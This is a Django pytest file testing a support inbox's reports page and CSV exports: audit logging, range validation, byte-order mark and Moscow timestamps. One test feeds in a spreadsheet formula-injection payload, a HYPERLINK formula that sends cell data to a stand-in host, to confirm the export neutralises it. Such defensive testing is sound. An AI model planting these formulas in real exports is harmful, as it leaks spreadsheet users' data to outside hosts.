import codecs
import csv
import io

import pytest
from django.test import Client

from audit.models import AuditEvent
from inbox.models import Message
from service.deadlines import chat_deadlines_refresh
from tests.service.conftest import moscow

PERIOD = {"from": "2026-11-01", "to": "2026-11-07"}


def _agent_client(agent) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="ru")
    client.force_login(agent)
    return client


def _csv_text(response) -> str:
    """The export's text after the UTF-8 byte-order mark it must start with (Excel reads UTF-8 by it)."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(codecs.BOM_UTF8)
    return body[len(codecs.BOM_UTF8) :].decode("utf-8")


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_csv_text(response))))


def test_reports_page_renders_charts_tables_and_csv(answered_turn, agent):
    account, chat = answered_turn(name="Озон Главный")
    client = _agent_client(agent)
    page = client.get("/reports/", PERIOD)
    assert page.status_code == 200
    html = page.content.decode()
    assert 'id="report-data"' in html and "chart-4.6.1.umd.min.js" in html
    assert "<script>" not in html.replace('<script id="report-data" type="application/json">', "")
    assert "По сотрудникам" in html and "Озон Главный" in html and "6 мин" in html

    rows = _csv_rows(client.get("/reports/", {**PERIOD, "export": "accounts"}))
    assert rows[1][:5] == [str(account.pk), "Озон Главный", "1", "1", "0"]
    assert rows[1][9] == "360"

    rows = _csv_rows(client.get("/reports/", {**PERIOD, "export": "turns"}))
    assert rows[0][:4] == ["chat", "account", "marketplace", "turn"]
    assert rows[1][:4] == [str(chat.pk), str(account.pk), "ozon", "0"]
    assert rows[1][7:9] == ["360", str(agent.pk)]

    exports = AuditEvent.objects.filter(action="exported", actor=agent).values_list("details", flat=True)
    assert sorted(details["what"] for details in exports) == ["report accounts", "report turns"]

    assert client.get("/reports/", {"from": "bad"}).status_code == 400


@pytest.mark.parametrize("name", ["account", "agent"])
@pytest.mark.parametrize("export", ["", "accounts", "agents", "turns"])
def test_an_id_beyond_the_database_range_answers_400_not_500(make_account, agent, name, export):
    make_account("ozon", members=[agent])
    client = _agent_client(agent)
    params = {**PERIOD, name: "9223372036854775808", "export": export}
    response = client.get("/reports/", params)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "Убедитесь, что это значение меньше либо равно 9223372036854775807." in response.content.decode()
    assert not AuditEvent.objects.filter(action="exported").exists()


def test_csv_exports_write_names_that_look_like_formulas_as_text(answered_turn, agent):
    hostile = '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'
    account, _chat = answered_turn(name=hostile)
    agent.first_name = "@SUM(1+1)"
    agent.save(update_fields=["first_name"])
    client = _agent_client(agent)

    accounts = _csv_rows(client.get("/reports/", {**PERIOD, "export": "accounts"}))
    assert accounts[1][:5] == [str(account.pk), "'" + hostile, "1", "1", "0"]
    agents = _csv_rows(client.get("/reports/", {**PERIOD, "export": "agents"}))
    assert agents[1][:5] == [str(agent.pk), "'@SUM(1+1)", "1", "1", "0"]
    assert agents[1][9] == "360"


@pytest.mark.parametrize(
    ("export", "start", "text"),
    [
        ("accounts", "key,", ",Озон Главный,"),
        ("agents", "key,", ",Мария Иванова,"),
        ("turns", "chat,", ",ozon,"),
    ],
)
def test_csv_exports_start_with_the_utf8_byte_order_mark(answered_turn, agent, export, start, text):
    agent.first_name, agent.last_name = "Мария", "Иванова"
    agent.save(update_fields=["first_name", "last_name"])
    answered_turn(name="Озон Главный")
    body = _csv_text(_agent_client(agent).get("/reports/", {**PERIOD, "export": export}))
    assert body.startswith(start) and text in body


def test_turn_export_writes_times_in_moscow_as_spreadsheets_read_them(
    answered_turn, make_chat, add_message, agent
):
    account, chat = answered_turn(name="Озон Главный")
    waiting = make_chat(account)
    add_message(waiting, Message.Author.BUYER, moscow(2026, 11, 6, 23, 30, 15))
    chat_deadlines_refresh(chat_ids=[waiting.pk])
    rows = _csv_rows(_agent_client(agent).get("/reports/", {**PERIOD, "export": "turns"}))
    header = "chat,account,marketplace,turn,started_at,day,answered_at,response_seconds,agent,sla_deadline"
    assert rows == [
        header.split(","),
        [
            str(chat.pk),
            str(account.pk),
            "ozon",
            "0",
            "2026-11-05 12:00:00",
            "2026-11-05",
            "2026-11-05 12:06:00",
            "360",
            str(agent.pk),
            "2026-11-05 13:00:00",
        ],
        [
            str(waiting.pk),
            str(account.pk),
            "ozon",
            "0",
            "2026-11-06 23:30:15",
            "2026-11-06",
            "",
            "",
            "",
            "2026-11-07 00:30:15",
        ],
    ]
